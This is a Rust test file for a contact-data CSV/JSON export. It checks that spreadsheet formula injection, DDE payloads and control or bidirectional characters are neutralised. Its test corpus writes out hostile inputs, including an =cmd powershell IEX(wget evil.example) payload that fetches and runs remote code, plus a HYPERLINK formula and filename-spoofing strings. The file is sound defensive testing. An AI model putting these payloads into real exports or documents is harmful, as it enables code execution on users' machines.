//! Export: CSV safe against formula injection and control characters, JSON with plain strings.
//! Every field is treated as hostile; the corpus asserts the exact output.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects,
    missing_docs
)]

use luca_healthoffice::Contact;
use luca_healthoffice::export::{COLUMNS, csv_field, to_csv, to_json};
use luca_protocol::ids::{TraceId, UserId, VenueId};
use luca_protocol::messages::contact_data::ContactFields;
use luca_protocol::time::UnixMinute;

/// (input, exact CSV field).
const CORPUS: &[(&str, &str)] = &[
    // Plain text, quotes doubled.
    ("Müller", "\"Müller\""),
    ("", "\"\""),
    ("O'Brien", "\"O'Brien\""),
    ("He said \"hi\"", "\"He said \"\"hi\"\"\""),
    ("\"=1+1\"", "\"\"\"=1+1\"\"\""),
    ("1+1", "\"1+1\""),
    ("a=b", "\"a=b\""),
    ("東京 🚀", "\"東京 🚀\""),
    // Formula prefixes and DDE payloads.
    ("=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""),
    ("=cmd|'/C powershell IEX(wget evil.example/x)'!A0", "\"'=cmd|'/C powershell IEX(wget evil.example/x)'!A0\""),
    ("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\""),
    ("@SUM(1+1)", "\"'@SUM(1+1)\""),
    ("+1", "\"'+1\""),
    ("-1", "\"'-1\""),
    ("+49 30 1234567", "\"'+49 30 1234567\""),
    ("=HYPERLINK(\"http://evil.example\",\"x\")", "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\""),
    // Full-width variants.
    ("＝1+1", "\"'＝1+1\""),
    ("＋1", "\"'＋1\""),
    ("－1", "\"'－1\""),
    ("＠SUM(1)", "\"'＠SUM(1)\""),
    // Tab, CR, LF: prefixed when leading, replaced everywhere.
    ("\t=1+1", "\"'\u{fffd}=1+1\""),
    ("\r=1+1", "\"'\u{fffd}=1+1\""),
    ("\n=1+1", "\"'\u{fffd}=1+1\""),
    ("\tplain", "\"'\u{fffd}plain\""),
    ("a\r\nb", "\"a\u{fffd}\u{fffd}b\""),
    ("line1\nline2\",\"=1+1", "\"line1\u{fffd}line2\"\",\"\"=1+1\""),
    ("a\tb", "\"a\u{fffd}b\""),
    // Formula behind whitespace or invisible characters.
    ("  =1+1", "\"'  =1+1\""),
    ("\u{a0}@x", "\"'\u{a0}@x\""),
    ("\u{202e}=1+1", "\"'\u{fffd}=1+1\""),
    ("\u{feff}=1+1", "\"'\u{fffd}=1+1\""),
    // Control and bidi characters.
    ("\u{202e}fdp.exe", "\"\u{fffd}fdp.exe\""),
    ("abc\u{202e}gpj.exe", "\"abc\u{fffd}gpj.exe\""),
    ("x\u{2066}y\u{2069}z\u{61c}\u{200e}\u{200f}", "\"x\u{fffd}y\u{fffd}z\u{fffd}\u{fffd}\u{fffd}\""),
    ("nul\u{0}del\u{7f}nel\u{85}", "\"nul\u{fffd}del\u{fffd}nel\u{fffd}\""),
    ("\u{1b}[31mred", "\"\u{fffd}[31mred\""),
    ("para\u{2028}graph\u{2029}", "\"para\u{fffd}graph\u{fffd}\""),
    // Other invisible format characters: replaced; the zero-width non-joiner and joiner kept, but skipped
    // when looking for a formula.
    ("zero\u{200b}width\u{ad}\u{2060}\u{e0041}", "\"zero\u{fffd}width\u{fffd}\u{fffd}\u{fffd}\""),
    ("\u{200b}=1+1", "\"'\u{fffd}=1+1\""),
    ("\u{200c}=1+1", "\"'\u{200c}=1+1\""),
    ("\u{200d}\u{3000}@x", "\"'\u{200d}\u{3000}@x\""),
    ("علی\u{200c}رضا", "\"علی\u{200c}رضا\""),
];

#[test]
fn hostile_corpus_csv_fields() {
    for (input, expected) in CORPUS {
        assert_eq!(csv_field(input), *expected, "input {input:?}");
    }
}

#[test]
fn very_long_fields_are_kept_whole() {
    let long = "A".repeat(100_000);
    assert_eq!(csv_field(&long), format!("\"{long}\""));
    let formula = format!("={}", "A".repeat(10_000));
    assert_eq!(csv_field(&formula), format!("\"'{formula}\""));
    let quotes = "\"".repeat(5_000);
    assert_eq!(csv_field(&quotes), format!("\"{}\"", "\"".repeat(10_000)));
}

fn contact(first: &str, last: &str, table: Option<u16>) -> Contact {
    let mut fields = ContactFields::default();
    fields.first_name = first.into();
    fields.last_name = last.into();
    fields.phone = "+49 30 1234567".into();
    fields.email = "@evil.example".into();
    fields.street = "Heidestraße".into();
    fields.house_number = "17\r\n=1+1".into();
    fields.postcode = "-51147".into();
    fields.city = "Köln".into();
    Contact {
        user_id: UserId::from_array([0x11; 16]),
        trace_id: TraceId::from_array([0x22; 16]),
        minute: UnixMinute(1_795_942_800 / 60),
        venue_id: VenueId::from_array([0x33; 16]),
        fields,
        table,
    }
}

const HEADER: &str = "\"user_id\",\"venue_id\",\"trace_id\",\"checkin_minute\",\"checkin_utc\",\"table\",\"first_name\",\"last_name\",\"phone\",\"email\",\"street\",\"house_number\",\"postcode\",\"city\"\r\n";

#[test]
fn csv_exact() {
    assert_eq!(to_csv(&[]), HEADER);
    let contacts =
        [contact("=cmd|' /C calc'!A0", "Mustermann", Some(12)), contact("Erika", "\u{202e}nnamretsuM", None)];
    let expected = format!(
        "{HEADER}{}{}",
        "\"11111111111111111111111111111111\",\"33333333333333333333333333333333\",\"22222222222222222222222222222222\",\"29932380\",\"2026-11-29T09:00:00Z\",\"12\",\"'=cmd|' /C calc'!A0\",\"Mustermann\",\"'+49 30 1234567\",\"'@evil.example\",\"Heidestraße\",\"17\u{fffd}\u{fffd}=1+1\",\"'-51147\",\"Köln\"\r\n",
        "\"11111111111111111111111111111111\",\"33333333333333333333333333333333\",\"22222222222222222222222222222222\",\"29932380\",\"2026-11-29T09:00:00Z\",\"\",\"Erika\",\"\u{fffd}nnamretsuM\",\"'+49 30 1234567\",\"'@evil.example\",\"Heidestraße\",\"17\u{fffd}\u{fffd}=1+1\",\"'-51147\",\"Köln\"\r\n",
    );
    assert_eq!(to_csv(&contacts), expected);
}

#[test]
fn csv_has_one_line_per_row_and_fourteen_fields() {
    // Every hostile corpus entry as every field: rows stay rows.
    let contacts: Vec<Contact> = CORPUS.iter().map(|(s, _)| contact(s, s, None)).collect();
    let csv = to_csv(&contacts);
    let lines: Vec<&str> = csv.split("\r\n").collect();
    assert_eq!(lines.len(), contacts.len() + 2);
    assert_eq!(lines.last(), Some(&""));
    assert!(!csv.replace("\r\n", "").contains(['\r', '\n', '\t', '\u{202e}']));
}

#[test]
fn json_exact() {
    assert_eq!(to_json(&[]), "[]");
    let c = contact("a\"b\\c\n\t\u{1}", "=cmd|' /C calc'!A0", Some(7));
    let expected = concat!(
        "[{\"user_id\":\"11111111111111111111111111111111\",\"venue_id\":\"33333333333333333333333333333333\",",
        "\"trace_id\":\"22222222222222222222222222222222\",\"checkin_minute\":\"29932380\",",
        "\"checkin_utc\":\"2026-11-29T09:00:00Z\",\"table\":\"7\",\"first_name\":\"a\\\"b\\\\c\\n\\t\\u0001\",",
        "\"last_name\":\"=cmd|' /C calc'!A0\",\"phone\":\"+49 30 1234567\",\"email\":\"@evil.example\",",
        "\"street\":\"Heidestraße\",\"house_number\":\"17\\r\\n=1+1\",\"postcode\":\"-51147\",\"city\":\"Köln\"}]",
    );
    assert_eq!(to_json(&[c]), expected);
}

#[test]
fn json_carries_every_hostile_string_unchanged() {
    let contacts: Vec<Contact> = CORPUS.iter().map(|(s, _)| contact(s, &"x".repeat(10_000), None)).collect::<Vec<_>>();
    let parsed: serde_json::Value = serde_json::from_str(&to_json(&contacts)).unwrap();
    let rows = parsed.as_array().unwrap();
    assert_eq!(rows.len(), CORPUS.len());
    for (row, (input, _)) in rows.iter().zip(CORPUS) {
        let obj = row.as_object().unwrap();
        assert_eq!(obj.len(), COLUMNS.len());
        assert!(obj.values().all(serde_json::Value::is_string));
        assert_eq!(obj["first_name"], *input);
        assert_eq!(obj["last_name"].as_str().unwrap().len(), 10_000);
        assert_eq!(obj["table"], "");
    }
}
